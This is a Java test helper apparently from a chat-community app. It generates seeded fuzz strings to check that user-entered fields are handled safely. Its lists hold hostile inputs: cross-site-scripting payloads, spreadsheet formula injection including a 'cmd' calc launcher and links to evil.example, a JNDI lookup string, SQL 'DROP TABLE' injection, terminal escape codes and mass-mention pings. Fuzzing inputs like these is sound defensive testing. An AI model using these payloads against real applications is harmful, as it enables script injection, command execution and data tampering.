package aftercredits.text;

import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * What somebody who means harm, or who only copies and pastes, may put into any field there is. The same seed gives the same
 * text.
 */
public final class HostileText {
    /** Every text that is hidden has it every few characters: where it shows, the text shows. Nothing else has it. */
    public static final String HIDDEN = "rosebud";

    /** As above, for texts that may be seen: names, titles, stances. */
    public static final String OPEN = "xanadu";

    /** A script that ran would say so here: {@code window.ranHere}. */
    private static final String SCRIPT = "window.ranHere=1";

    private static final List<String> SPOILERS = List.of(
            "||", "|", "\\|", "\\||", "|||", "||||", "|\\|", "||||||", "\\", "\\\\", "|\u200B|", "&#124;&#124;");
    private static final List<String> MARKUP = List.of(
            "`",
            "``",
            "```",
            "```js\n",
            "\n```\n",
            "*",
            "**",
            "***",
            "_",
            "__",
            "~~",
            "> ",
            "\n> ",
            "\n>>> ",
            "\n# ",
            "\n## ",
            "\n### ",
            "\n- ",
            "\n* ",
            "\n-# ",
            "\n1. ",
            "\n9. ",
            "[",
            "](",
            ")",
            "[a](https://evil.example)",
            "[https://good.example](https://evil.example)",
            "<https://evil.example>",
            "https://evil.example/||x||",
            "<t:0:R>",
            ":x:",
            "\n---\n",
            "\n| a | b |\n|---|---|\n");
    private static final List<String> PINGS = List.of(
            "@everyone",
            "@here",
            "\\@everyone",
            "@\u200Beveryone",
            "<@1100000000000000012>",
            "<@!1100000000000000012>",
            "<@&1100000000000000002>",
            "<@&1100000000000000001>",
            "<#1100000000000000022>",
            "<id:customize>",
            "</club setup:1100000000000000099>",
            "<:x:1100000000000000098>",
            "<a:x:1100000000000000097>");
    private static final List<String> CHARACTERS = List.of(
            "\u200B",
            "\u200C",
            "\u200D",
            "\u2060",
            "\uFEFF",
            "\u00AD",
            "\u034F",
            "\u3164",
            "\u2800",
            "\u00A0",
            "\u3000",
            "\u202E",
            "\u202D",
            "\u202B",
            "\u202A",
            "\u202C",
            "\u2066",
            "\u2067",
            "\u2068",
            "\u2069",
            "\u200F",
            "\u061C",
            "\u2028",
            "\u2029",
            "\u0085",
            "\r",
            "\r\n",
            "\n",
            "\n\n\n",
            "\t",
            "\u000B",
            "\f",
            "\0",
            "\b",
            "\u0007",
            "\u007F",
            "\u001B[31m",
            "\u001B[2J",
            "\u001B]0;owned\u0007",
            "\u009B31m",
            "\u001B[1A\r",
            "\u0001",
            "\uFFFE",
            "\uFFFF",
            "\uFFFD",
            "e\u0301\u0300\u0323\u0327\u20DD",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
            "\uD83C\uDDF5\uD83C\uDDF9",
            "1\uFE0F\u20E3",
            "\uDBFF\uDFFD",
            "\uFB03",
            "\u0130",
            "\u1E9E",
            "\u05E9\u05DC\u05D5\u05DD",
            "\u0645\u0631\u062D\u0628\u0627",
            "\u6F22\u5B57",
            "\u0E01\u0E33");
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'=1",
            "''=1",
            "=cmd|' /C calc'!A0",
            "\uFF1D1+1",
            ";=1",
            ",=1",
            "\"=1",
            "\"\"",
            "\"",
            ",",
            ";",
            "\n=1");
    private static final List<String> PAGES = List.of(
            "<script>" + SCRIPT + "</script>",
            "</script><script>" + SCRIPT + "</script>",
            "<img src=x onerror=" + SCRIPT + ">",
            "\"><svg onload=" + SCRIPT + ">",
            "' onmouseover='" + SCRIPT,
            "</style><style>*{display:none}</style>",
            "</title>",
            "<iframe srcdoc=\"<script>parent." + SCRIPT + "</script>\">",
            "[x](javascript:" + SCRIPT + ")",
            "[x](data:text/html,<script>" + SCRIPT + "</script>)",
            "<a href=javascript:" + SCRIPT + ">",
            "<!--",
            "-->",
            "]]>",
            "<details open ontoggle=" + SCRIPT + ">",
            "&lt;script&gt;",
            "&amp;",
            "&",
            "<",
            ">",
            "</div></body></html>",
            "<base href=https://evil.example>",
            "<meta http-equiv=refresh content=0>",
            "<form action=https://evil.example>");
    private static final List<String> PATTERNS = List.of(
            "{0}",
            "{count, plural, one {#} other {#}}",
            "'{'",
            "%s%n%x",
            "${jndi:ldap://evil.example/a}",
            "#{1+1}",
            "{{1+1}}",
            "$1",
            "\\1",
            "'; DROP TABLE response; --",
            "NULL",
            "\\N",
            "AND",
            "NEAR(",
            "*",
            "^",
            "\"a\" OR \"b\"",
            "_%",
            "--",
            "/*",
            "\\u0000",
            "\\x1b",
            "null",
            "true",
            "~",
            "- x: &a [*a]",
            "!!java.net.URL");

    /** No text of Unicode's: what a careless cut leaves. */
    private static final List<String> HALVES = List.of("\uD83D", "\uDC69", "\uDC69\uD83D", "a\uD83D");

    private static final List<String> WHOLE = Stream.of(SPOILERS, MARKUP, PINGS, CHARACTERS, FORMULAS, PAGES, PATTERNS)
            .flatMap(List::stream)
            .toList();
    private static final List<String> ALL =
            Stream.of(WHOLE, HALVES).flatMap(List::stream).toList();

    private HostileText() {}

    /** How many seeds it takes to have each nasty thing alone, over and over. */
    public static int kinds() {
        return ALL.size();
    }

    /**
     * A text of anything.
     *
     * @param seed below {@link #kinds}: one thing over and over; above: everything mixed
     * @param mark {@link #HIDDEN} or {@link #OPEN}, which stands in it every few characters
     * @param codePoints exactly so many
     */
    public static String of(long seed, String mark, int codePoints) {
        return text(seed, mark, codePoints, ALL);
    }

    /** As above, without halves of characters: these do not come over the network. */
    public static String sendable(long seed, String mark, int codePoints) {
        return text(seed, mark, codePoints, WHOLE);
    }

    private static String text(long seed, String mark, int codePoints, List<String> pieces) {
        Random random = new Random(seed);
        StringBuilder text = new StringBuilder();
        boolean beginsWithMark = random.nextBoolean();
        text.append(beginsWithMark ? mark : "");
        while (Markdown.codePoints(text.toString()) < codePoints) {
            int run = 1 + random.nextInt(8);
            IntStream.range(0, run)
                    .forEach(i -> text.append(
                            seed < pieces.size() ? pieces.get((int) seed) : pieces.get(random.nextInt(pieces.size()))));
            text.append(random.nextInt(3) == 0 ? " " : "").append(mark).append(random.nextInt(4) == 0 ? " " : "");
        }
        return text.substring(0, text.offsetByCodePoints(0, codePoints));
    }
}
